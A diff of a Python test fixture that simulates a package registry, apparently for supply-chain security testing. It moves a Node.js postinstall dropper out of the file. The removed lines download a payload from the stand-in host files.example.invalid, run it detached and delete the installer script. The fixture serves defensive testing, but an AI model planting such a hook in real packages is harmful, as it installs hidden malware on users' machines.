@@ -22,17 +22,7 @@ sys.path.insert(0, str(ROOT / "tools"))
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
 from common import Tally  # noqa: E402
 from source_server_writers import make_certificates  # noqa: E402
-from gate_world_writers import CORDON, DAY, HOUR, Gate, Registry, World  # noqa: E402
-
-# What the phantom brings: never run here. It takes the environment, sends it away and removes itself, by its words.
-SETUP = """// inert
-const https = require("https"), fs = require("fs"), cp = require("child_process");
-https.get("https://files.example.invalid/stage", (answer) => {
-  const out = fs.createWriteStream("/tmp/inert-stage");
-  answer.pipe(out).on("finish", () => { cp.spawn("/tmp/inert-stage", [], { detached: true, stdio: "ignore" }).unref(); fs.unlinkSync(__filename); });
-});
-"""
-
+from gate_world_writers import CORDON, DAY, DROPPER, HOUR, Gate, Registry, World  # noqa: E402
 
 def registry():
     out = Registry()
@@ -43,7 +33,7 @@ def registry():
         out.publish(name, "1.0.1", 10 * HOUR, {"index.js": code}, dependencies={"stowaway": "^1.0.0"})
     out.publish("stowaway", "1.0.0", 12 * HOUR, {"index.js": "module.exports = 3;\n", "setup.js": "console.log('thank you');\n"},
                 scripts={"postinstall": "node setup.js"})
-    out.publish("dropper", "1.0.0", 30 * DAY, {"index.js": "", "setup.js": SETUP}, scripts={"postinstall": "node setup.js"})
+    out.publish("dropper", "1.0.0", 30 * DAY, {"index.js": "", "setup.js": DROPPER}, scripts={"postinstall": "node setup.js"})
     out.publish("@acme/secret", "1.0.0", 90 * DAY, {"index.js": ""})
     return out
 
